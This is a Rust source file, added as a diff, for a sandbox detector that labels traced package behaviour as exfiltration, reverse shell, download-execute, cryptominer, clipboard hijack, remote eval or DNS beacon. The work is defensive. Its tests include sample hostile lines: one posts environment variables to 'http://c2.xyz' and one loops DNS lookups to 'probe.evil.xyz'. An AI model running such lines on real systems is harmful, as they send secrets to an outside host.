@@ -1,0 +1,254 @@
+//! The sandbox (dynamic) detector: execute the package in the
+//! effect-tracing interpreter and match behaviour signatures on the
+//! trace — flows, not syntax.
+
+use minilang::interp::{run, InterpConfig, Trace};
+use minilang::Module;
+use serde::{Deserialize, Serialize};
+use std::fmt;
+
+/// A behaviour family inferred from an effect trace.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
+pub enum BehaviorLabel {
+    /// Sensitive read (env/credentials) followed by a network send.
+    Exfiltration,
+    /// Network fetch followed by process execution.
+    DownloadExecute,
+    /// Socket connection feeding a process.
+    ReverseShell,
+    /// Clipboard read/write loop.
+    ClipboardHijack,
+    /// Miner launch (stratum endpoint + subprocess).
+    CryptoMiner,
+    /// `eval` of network-derived data.
+    RemoteEval,
+    /// Hostname/user beacons over DNS.
+    Beacon,
+    /// Nothing malicious observed.
+    Clean,
+}
+
+impl BehaviorLabel {
+    /// Everything except [`BehaviorLabel::Clean`].
+    pub const MALICIOUS: [BehaviorLabel; 7] = [
+        BehaviorLabel::Exfiltration,
+        BehaviorLabel::DownloadExecute,
+        BehaviorLabel::ReverseShell,
+        BehaviorLabel::ClipboardHijack,
+        BehaviorLabel::CryptoMiner,
+        BehaviorLabel::RemoteEval,
+        BehaviorLabel::Beacon,
+    ];
+}
+
+impl fmt::Display for BehaviorLabel {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(match self {
+            BehaviorLabel::Exfiltration => "exfiltration",
+            BehaviorLabel::DownloadExecute => "download-execute",
+            BehaviorLabel::ReverseShell => "reverse-shell",
+            BehaviorLabel::ClipboardHijack => "clipboard-hijack",
+            BehaviorLabel::CryptoMiner => "cryptominer",
+            BehaviorLabel::RemoteEval => "remote-eval",
+            BehaviorLabel::Beacon => "beacon",
+            BehaviorLabel::Clean => "clean",
+        })
+    }
+}
+
+/// Result of a sandbox run.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct DynamicVerdict {
+    /// Behaviour labels observed (possibly several).
+    pub labels: Vec<BehaviorLabel>,
+    /// The raw API set, for forensics.
+    pub apis: Vec<String>,
+}
+
+impl DynamicVerdict {
+    /// Whether any malicious behaviour was observed.
+    pub fn malicious(&self) -> bool {
+        self.labels.iter().any(|l| *l != BehaviorLabel::Clean)
+    }
+}
+
+/// The sandbox detector.
+#[derive(Debug, Clone)]
+pub struct DynamicDetector {
+    config: InterpConfig,
+}
+
+impl DynamicDetector {
+    /// Creates a detector with the given fuel budget.
+    pub fn new(fuel: u64) -> Self {
+        DynamicDetector {
+            config: InterpConfig { fuel },
+        }
+    }
+
+    /// Runs a module in the sandbox and labels the trace.
+    pub fn analyze(&self, module: &Module) -> DynamicVerdict {
+        let trace = run(module, &self.config);
+        let labels = label_trace(&trace);
+        DynamicVerdict {
+            labels,
+            apis: trace.apis().iter().map(|a| a.to_string()).collect(),
+        }
+    }
+
+    /// Parses and analyzes source text; unparseable code yields a clean
+    /// verdict (a real sandbox would flag it for manual review).
+    pub fn analyze_source(&self, source: &str) -> DynamicVerdict {
+        match minilang::parse(source) {
+            Ok(module) => self.analyze(&module),
+            Err(_) => DynamicVerdict {
+                labels: vec![BehaviorLabel::Clean],
+                apis: Vec::new(),
+            },
+        }
+    }
+}
+
+impl Default for DynamicDetector {
+    fn default() -> Self {
+        DynamicDetector::new(InterpConfig::default().fuel)
+    }
+}
+
+/// Matches behaviour signatures against an effect trace.
+pub fn label_trace(trace: &Trace) -> Vec<BehaviorLabel> {
+    let mut labels = Vec::new();
+    let touched = |p: &str| trace.touched(p);
+    let sends = touched("requests.post");
+    let fetches = touched("requests.get");
+    let sensitive_read = touched("os.environ")
+        || touched("os.getenv")
+        || touched("glob.glob")
+        || touched("os.read_file");
+    let spawns = touched("subprocess.");
+    let socketed = touched("socket.socket");
+    let dns = touched("socket.gethostbyname");
+    let clip_read = touched("clipboard.paste");
+    let clip_write = touched("clipboard.copy");
+    let evals = touched("eval");
+    let miner_hint = trace
+        .effects
+        .iter()
+        .any(|e| e.args.iter().any(|a| a.contains("stratum://")));
+
+    if sensitive_read && sends {
+        labels.push(BehaviorLabel::Exfiltration);
+    }
+    if fetches && spawns && miner_hint {
+        labels.push(BehaviorLabel::CryptoMiner);
+    } else if fetches && spawns {
+        labels.push(BehaviorLabel::DownloadExecute);
+    }
+    if socketed && spawns {
+        labels.push(BehaviorLabel::ReverseShell);
+    }
+    if clip_read && clip_write {
+        labels.push(BehaviorLabel::ClipboardHijack);
+    }
+    if evals && fetches {
+        labels.push(BehaviorLabel::RemoteEval);
+    }
+    if dns {
+        labels.push(BehaviorLabel::Beacon);
+    }
+    if labels.is_empty() {
+        labels.push(BehaviorLabel::Clean);
+    }
+    labels
+}
+
+/// The expected dynamic label for each generator behaviour family, used
+/// by the evaluation harness and tests.
+pub fn expected_label(behavior: minilang::gen::Behavior) -> BehaviorLabel {
+    use minilang::gen::Behavior;
+    match behavior {
+        Behavior::ExfilEnv | Behavior::ExfilAws | Behavior::InfoStealer => {
+            BehaviorLabel::Exfiltration
+        }
+        Behavior::DownloadExecute => BehaviorLabel::DownloadExecute,
+        Behavior::ReverseShell => BehaviorLabel::ReverseShell,
+        Behavior::ClipboardHijack => BehaviorLabel::ClipboardHijack,
+        Behavior::CryptoMiner => BehaviorLabel::CryptoMiner,
+        Behavior::Backdoor => BehaviorLabel::RemoteEval,
+        Behavior::DnsBeacon => BehaviorLabel::Beacon,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use minilang::gen::{generate, generate_benign, Behavior};
+    use rand::rngs::StdRng;
+    use rand::SeedableRng;
+
+    #[test]
+    fn labels_match_generated_behaviors() {
+        let detector = DynamicDetector::default();
+        let mut rng = StdRng::seed_from_u64(1);
+        for behavior in Behavior::ALL {
+            let mut correct = 0;
+            for _ in 0..8 {
+                let module = generate(behavior, &mut rng);
+                let verdict = detector.analyze(&module);
+                if verdict.labels.contains(&expected_label(behavior)) {
+                    correct += 1;
+                }
+            }
+            assert!(
+                correct >= 6,
+                "{behavior}: expected label {} found only {correct}/8 times",
+                expected_label(behavior)
+            );
+        }
+    }
+
+    #[test]
+    fn benign_code_is_clean() {
+        let detector = DynamicDetector::default();
+        let mut rng = StdRng::seed_from_u64(2);
+        for _ in 0..30 {
+            let module = generate_benign(&mut rng);
+            let verdict = detector.analyze(&module);
+            assert!(
+                !verdict.malicious(),
+                "benign module labeled {:?}",
+                verdict.labels
+            );
+        }
+    }
+
+    #[test]
+    fn unparseable_source_is_clean_not_fatal() {
+        let verdict = DynamicDetector::default().analyze_source(":::");
+        assert!(!verdict.malicious());
+    }
+
+    #[test]
+    fn apis_are_reported_for_forensics() {
+        let detector = DynamicDetector::default();
+        let module = minilang::parse(
+            "import os\nimport requests\nrequests.post('http://c2.xyz', os.environ())\n",
+        )
+        .unwrap();
+        let verdict = detector.analyze(&module);
+        assert!(verdict.malicious());
+        assert!(verdict.apis.iter().any(|a| a == "requests.post"));
+        assert!(verdict.apis.iter().any(|a| a == "os.environ"));
+    }
+
+    #[test]
+    fn beacon_loops_are_caught_despite_fuel_exhaustion() {
+        let detector = DynamicDetector::new(400);
+        let module = minilang::parse(
+            "import socket\nwhile True:\n    socket.gethostbyname('probe.evil.xyz')\n",
+        )
+        .unwrap();
+        let verdict = detector.analyze(&module);
+        assert!(verdict.labels.contains(&BehaviorLabel::Beacon));
+    }
+}
